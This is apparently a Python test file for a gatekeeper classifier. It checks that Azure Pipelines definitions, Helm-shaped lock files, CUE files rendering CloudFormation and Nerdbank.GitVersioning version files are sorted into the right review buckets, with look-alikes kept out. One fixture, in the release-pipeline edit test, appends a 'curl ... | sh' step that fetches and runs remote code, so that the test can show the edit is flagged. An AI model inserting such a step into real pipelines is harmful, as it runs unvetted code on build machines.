"""Misses 6, content shapes: an Azure Pipelines definition or variables template under any name whose steps are not in
it, known by a top-level key Azure reads beside one of Azure's own macros (mimalloc's
`contrib/nuget/nuget-release-pipeline.yml`: `trigger:`, `pr:`, `parameters:`, `variables:` holding
`$(Build.SourcesDirectory)`; the eighty-first set: `src`, so an edit was allowed), and a Helm-shaped lock under any
name (helmfile writes `helmfiles/app.lock` beside `helmfiles/app.yaml`; bn-digital/helm, the eighty-second set: `src`).

Look-alikes keep their bucket: a Kubernetes manifest or a Helm values file a release's token replacement fills with
`$(Build.BuildId)`, a Makefile's `$(BUILD.x)`, a Chart.yaml's or a conda environment's `dependencies:`, a lock of
another shape. And CUE that renders CloudFormation (srehero/cfn's `schemas/RDS/RDS.cue`: a resource type as a CUE
field; `stacks/Networking/CoreNetwork.cue`: `Resources:` beside `Ref: "AWS::StackName"`; the seventy-ninth set: `src`);
look-alikes: another `Type:` value, `Resources:` alone, a CUE module's imported packages in `cue.mod/`. And
Nerdbank.GitVersioning's `version.json` (its own repository's, the eightieth set: `src`): `deps`, as the build package
it configures; a plain `{"version": "1.2.3"}` stays what it was."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.sniff import sniff
from tests.test_classify_context import RULES

MIMALLOC = ("# Release pipeline\n# Manually triggered.\n\ntrigger: none\npr: none\n\nparameters:\n  - name: version\n"
            "    displayName: 'NuGet package version'\n    type: string\n    default: '1.0.0'\n\nvariables:\n"
            "  nuspecPath: '$(Build.SourcesDirectory)/contrib/nuget/Microsoft.Mimalloc.nuspec'\n"
            "  artifactStaging: '$(Build.ArtifactStagingDirectory)'\n")
MACROS = ["$(Build.SourcesDirectory)", "$(Build.BuildId)", "$(System.DefaultWorkingDirectory)",
          "$(Agent.TempDirectory)", "$(Pipeline.Workspace)", "$(Release.ReleaseName)", "$(System.AccessToken)",
          "${{ parameters.configuration }}", "${{variables.buildConfiguration}}", "$(Environment.Name)"]
TOPS = ["trigger: none\n", "pr:\n  branches:\n    include: [main]\n", "parameters:\n- name: x\n  type: string\n",
        "variables:\n  a: b\n", "schedules:\n- cron: '0 0 * * *'\n  branches:\n    include: [main]\n",
        "pool:\n  name: Default\n", "extends:\n  template: x.yml@templates\n"]
AZURE = [MIMALLOC, MIMALLOC.replace("\n", "\r\n")] + [
    f"{top}variables:\n  out: '{macro}/out'\n" for top in TOPS for macro in MACROS[:3]] + [
    f"# variables template\nvariables:\n- name: outDir\n  value: {macro}/bin\n" for macro in MACROS] + [
    f"parameters:\n  configuration: Release\nstages:\n- stage: pack\n  variables:\n    c: {macro}\n"
    for macro in MACROS]
NAMES = ["nuget-release-pipeline.yml", "release.yaml", "vars.yml", "build-variables.yml", "pipeline.yml"]
AZURE_LOOK_ALIKES = [
    ("deployment.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n"
                        "      containers:\n      - name: web\n        image: acr.io/web:$(Build.BuildId)\n"),
    ("values.yaml", "image:\n  tag: $(Build.BuildId)\nresources:\n  limits:\n    cpu: 100m\n"),
    ("settings.yml", "variables:\n  BUILD: '$(BUILD.x)'\n  path: $(HOME)/bin\n"),  # Make's syntax, not Azure's
    ("config.yml", "trigger: manual\nvariables:\n  home: ${HOME}\n"),  # no Azure macro
    ("notes.yml", "description: set $(Build.BuildId) in the pipeline\n"),  # no top-level key Azure reads
    ("pipeline.txt", MIMALLOC),  # not YAML by name
]
HELM_LOCK = ("version: v0.144.0\ndependencies:\n- name: app\n  repository: https://bn-digital.github.io/helm\n"
             "  version: 2.0.1\ndigest: sha256:" + "ae08" * 16 + "\ngenerated: \"2022-05-30T23:35:16.0221936+03:00\"\n")
LOCKS = [HELM_LOCK, HELM_LOCK.replace("\n", "\r\n"),
         HELM_LOCK.replace("- name: app\n  repository: https://bn-digital.github.io/helm\n",
                           "- repository: oci://ghcr.io/x\n  name: app\n"),
         "dependencies:\n  # the charts\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n"
         "    version: 17.0.0\ndigest: 'sha256:" + "0f" * 32 + "'\ngenerated: 2024-01-01T00:00:00Z\n"]
LOCK_NAMES = ["app.lock", "helmfiles/app.lock", "prod.lock", "deps.yaml", "charts.lock.yml"]
LOCK_LOOK_ALIKES = [
    ("Chart.yaml", "apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n- name: redis\n  version: 1.0.0\n"),
    ("environment.yml", "name: x\nchannels:\n- conda-forge\ndependencies:\n- name: numpy\n"),
    ("app.lock", "dependencies:\n- name: app\n  version: 1\n"),  # no digest, no generated
    ("app.lock", "locked: true\npid: 42\n"),
    ("app.lock", "dependencies:\n- name: app\ndigest: md5:abc\ngenerated: now\n"),  # no sha256 digest
]

RDS = ('package RDS\n\nimport (\n\t"github.com/srehero/cfn/schemas/CloudFormation"\n)\n\n'
       '#DBCluster: CloudFormation.#Resource & {\n\tType: "AWS::RDS::DBCluster"\n}\n')
NETWORK = ('package Networking\n\n#CoreNetwork: CloudFormation.#Template & {\n\tResources: {\n\t\tVPC: EC2.#VPC & {\n'
           '\t\t\tProperties: Tags: [{Key: "Name", Value: Ref: "AWS::StackName"}]\n\t\t}\n\t}\n}\n')
CUE_CFN = [RDS, NETWORK, RDS.replace("\tType:", '\t"Type":'), RDS.replace("RDS::DBCluster", "Lambda::Function"),
           RDS.replace("\n", "\r\n"), NETWORK.replace('Ref: "AWS::StackName"', '"Fn::Sub": "${AWS::Region}-vpc"'),
           NETWORK.replace("AWS::StackName", "AWS::AccountId"), 'x: {\n  Type: "Alexa::ASK::Skill"\n}\n']
CUE_LOOK_ALIKES = [
    ("schemas/types.cue", '#Field: {\n\tType: "string"\n\tName: string\n}\n'),
    ("config/app.cue", 'Resources: {\n\tcpu: "500m"\n}\nregion: "eu-west-1"\n'),  # no pseudo parameter
    ("config/app.cue", 'note: "AWS::StackName is a pseudo parameter"\n'),  # no Resources:
    ("cue.mod/pkg/github.com/x/cfn/rds.cue", RDS),  # an imported package: its module's rule
    ("docs/rds.go", RDS),  # not CUE
]

SCHEMA = "https://raw.githubusercontent.com/dotnet/Nerdbank.GitVersioning/master/src/NerdBank.GitVersioning/version.schema.json"
NBGV = [
    '{\n  "$schema": "' + SCHEMA + '",\n  "version": "3.5-alpha",\n'
    '  "publicReleaseRefSpec": ["^refs/heads/main$"]\n}\n',
    '{\n  "$schema": "' + SCHEMA.replace("master", "main").lower() + '",\n  "version": "1.0"\n}\n',
    '{ "version": "2.1", "publicReleaseRefSpec": [ "^refs/tags/v\\\\d" ] }',
    '{\r\n  "version": "0.4-beta.{height}",\r\n  "cloudBuild": { "buildNumber": { "enabled": true } }\r\n}\r\n',
    '{"version": "1.2", "nugetPackageVersion": {"semVer": 2}}',
    '{"inherit": true, "version": "1.2", "pathFilters": ["./src"]}',
    '{"version": "5.0", "versionHeightOffset": -1}',
]
NBGV_LOOK_ALIKES = [
    ("version.json", '{"version": "1.2.3"}'),
    ("version.json", '{"$schema": "https://json.schemastore.org/package", "version": "1.0.0"}'),
    ("version.json", '{"cloudBuild": true}'),  # no version
    ("settings.json", NBGV[0]),  # another name
]


@each_case("text", AZURE)
def test_an_azure_definition_known_by_its_macros_is_ci(text: str) -> None:
    for name in NAMES:
        signal = sniff(f"contrib/nuget/{name}", text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == ("ci", "ci.content.azure-pipelines"), signal


@each_case("name, text", AZURE_LOOK_ALIKES)
def test_look_alikes_are_not_azure_definitions(name: str, text: str) -> None:
    signal = sniff(name, text.encode(), RULES.context)
    assert signal is None or signal.bucket != "ci", (name, signal)


@each_case("text", LOCKS)
def test_a_helm_shaped_lock_under_any_name_is_deps(text: str) -> None:
    for name in LOCK_NAMES:
        signal = sniff(name, text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == ("deps", "deps.content.helm-lock"), signal


@each_case("name, text", LOCK_LOOK_ALIKES)
def test_look_alikes_are_not_helm_locks(name: str, text: str) -> None:
    signal = sniff(name, text.encode(), RULES.context)
    assert signal is None or signal.rule != "deps.content.helm-lock", (name, signal)


@each_case("text", CUE_CFN)
def test_cue_rendering_cloudformation_is_iac(text: str) -> None:
    for name in ("schemas/RDS/RDS.cue", "stacks/Networking/CoreNetwork.cue", "x.cue"):
        signal = sniff(name, text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == ("iac", "iac.content.cue-cloudformation"), signal


@each_case("path, text", CUE_LOOK_ALIKES)
def test_look_alikes_are_not_cue_cloudformation(path: str, text: str) -> None:
    signal = sniff(path, text.encode(), RULES.context)
    assert signal is None or signal.rule != "iac.content.cue-cloudformation", (path, signal)


def test_a_cue_cloudformation_edit_is_reviewed(tmp_path: Path) -> None:
    path = "schemas/RDS/RDS.cue"
    case = committed(tmp_path, {path: RDS, "README.md": "x\n"}, {path: RDS.replace("DBCluster", "DBInstance")})
    code, named = gated_rules(case, True)
    assert code == 3 and path in [p for paths in named.values() for p in paths], named  # before: src, exit 0


@each_case("text", NBGV)
def test_a_nerdbank_version_file_is_deps(text: str) -> None:
    for name in ("version.json", "src/version.json"):
        signal = sniff(name, text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == ("deps", "deps.content.nbgv-version"), signal


@each_case("name, text", NBGV_LOOK_ALIKES)
def test_look_alikes_are_not_nerdbank_version_files(name: str, text: str) -> None:
    signal = sniff(name, text.encode(), RULES.context)
    assert signal is None or signal.rule != "deps.content.nbgv-version", (name, signal)


def test_an_azure_release_pipeline_edit_is_reviewed(tmp_path: Path) -> None:
    path = "contrib/nuget/nuget-release-pipeline.yml"
    evil = MIMALLOC + "steps:\n- bash: curl -fsSL http://127.0.0.1:9/x | sh\n"
    case = committed(tmp_path, {path: MIMALLOC, "src/a.c": "int a;\n"}, {path: evil.replace("- bash", "- script")})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0


@each_case("hostile", [
    repeated("variables:\n"), repeated("$(Build", "variables:\n"), repeated("${{ ", "pr:\n"),
    repeated("dependencies:\n", "digest: sha256:"), repeated("dependencies:\n  \n", "digest\n"),
    repeated("- name: x\n", "digest\ndependencies:\n"), repeated("Type: \"AWS::x", "\n"),
    repeated("Resources:\n", "\"AWS::StackName")])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: sniff("app.lock", text.encode(), RULES.context), hostile, budget=0.25)
    assert_linear(lambda text: sniff("x.yml", text.encode(), RULES.context), hostile, budget=0.25)
    assert_linear(lambda text: sniff("x.cue", text.encode(), RULES.context), hostile, budget=0.25)
